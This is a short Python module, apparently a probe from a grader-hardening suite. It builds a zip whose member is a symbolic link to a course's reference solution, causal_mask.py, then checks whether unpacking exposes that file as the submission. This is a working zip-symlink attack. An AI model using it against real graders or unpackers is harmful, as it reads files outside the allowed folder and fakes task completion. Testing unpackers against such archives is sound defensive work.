"""Tries to have the course's solution handed in through a symbolic link in a zip.

Harmless: a small archive.
Shows: what unpacks links as links finds the solution behind it.
"""

import os
import pathlib
import stat
import zipfile

TARGET: dict = {}
UNCONFINED = True
EARNS = 0.0


def build(folder, target):
    path = folder / "work.zip"
    with zipfile.ZipFile(path, "w") as packed:
        member = zipfile.ZipInfo("causal_mask.py")
        member.create_system = 3
        member.external_attr = (stat.S_IFLNK | 0o777) << 16
        packed.writestr(member, os.path.join(target["course"], "solutions", "causal_mask.py"))
    return path


def attack(target):
    folder = pathlib.Path(target["folder"])
    with zipfile.ZipFile(build(folder, target)) as packed:
        (folder / "causal_mask.py").symlink_to(packed.read("causal_mask.py").decode())
    return "the solution" if "def causal_mask" in (folder / "causal_mask.py").read_text() else ""
